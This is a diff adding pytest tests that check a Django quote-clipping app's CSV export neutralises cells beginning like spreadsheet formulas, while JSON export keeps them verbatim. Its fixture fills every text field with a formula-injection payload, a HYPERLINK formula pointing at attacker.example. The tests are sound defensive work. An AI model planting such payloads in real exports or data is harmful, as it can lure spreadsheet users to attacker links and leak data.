@@ -10,7 +10,14 @@ from django.urls import reverse
 from clippings.exports import COLUMN_NAMES
 from clippings.models import Article, Quote, Speaker
 
-from .factories import ArticleFactory, ParagraphFactory, QuoteFactory, SpeakerFactory
+from .factories import (
+    ArticleFactory,
+    ParagraphFactory,
+    QuoteFactory,
+    SourceFactory,
+    SpeakerFactory,
+    UpdateFactory,
+)
 from .test_speaker_names import NAMES_IN_THE_TEXT
 
 SEARCH = reverse("clippings:quote-search")
@@ -223,3 +230,75 @@ def test_export_columns_are_the_ones_the_readme_documents():
     readme = (Path(settings.BASE_DIR) / "README.md").read_text(encoding="utf-8")
     section = readme.split("### Exporting quotes", 1)[1].split("\n## ", 1)[0]
     assert re.findall(r"^\| `(\w+)` \|", section, flags=re.MULTILINE) == COLUMN_NAMES
+
+
+# Cells that begin like a spreadsheet formula
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+TEXT_COLUMNS = [
+    "words",
+    "speaker",
+    "speaker_role",
+    "speaker_affiliation",
+    "speaker_as_printed",
+    "intermediary",
+    "channel_source",
+    "channel_as_printed",
+    "said_on_as_printed",
+    "article_headline",
+    "update_label",
+]
+
+
+def formula(start, column):
+    return f'{start}HYPERLINK("http://attacker.example/?{column}","Open")'
+
+
+def quote_beginning_every_cell_with(start):
+    """A published quote whose every text column begins with ``start``."""
+    article = ArticleFactory(headline=formula(start, "article_headline"))
+    update = UpdateFactory(article=article, label=formula(start, "update_label"))
+    return QuoteFactory(
+        paragraph=ParagraphFactory(article=article, update=update),
+        words=formula(start, "words"),
+        speaker=SpeakerFactory(
+            name=formula(start, "speaker"),
+            role=formula(start, "speaker_role"),
+            affiliation=formula(start, "speaker_affiliation"),
+        ),
+        speaker_as_printed=formula(start, "speaker_as_printed"),
+        intermediary=SpeakerFactory(name=formula(start, "intermediary")),
+        channel=Quote.Channel.NEWS_AGENCY,
+        channel_source=SourceFactory(name=formula(start, "channel_source")),
+        channel_as_printed=formula(start, "channel_as_printed"),
+        said_on_as_printed=formula(start, "said_on_as_printed"),
+    )
+
+
+def csv_text(client, **params):
+    response = client.get(SEARCH, {**params, "format": "csv"})
+    assert response.status_code == 200
+    return b"".join(response.streaming_content).decode()
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_csv_export_puts_a_single_quote_before_a_cell_that_begins_like_a_formula(client, start):
+    quote = quote_beginning_every_cell_with(start)
+    text = csv_text(client, article=quote.article.slug)
+    [row] = csv.DictReader(io.StringIO(text, newline=""))
+    assert {column: row[column] for column in TEXT_COLUMNS} == {
+        column: "'" + formula(start, column) for column in TEXT_COLUMNS
+    }
+    assert row["quote_id"] == f"{quote.article.slug}#{quote.anchor}"
+    assert row["url"].startswith("http://testserver/articles/")
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_json_export_keeps_a_value_that_begins_like_a_formula_verbatim(client, start):
+    quote = quote_beginning_every_cell_with(start)
+    [row] = client_rows(client, "json", article=quote.article.slug)
+    assert {column: row[column] for column in TEXT_COLUMNS} == {
+        column: formula(start, column) for column in TEXT_COLUMNS
+    }
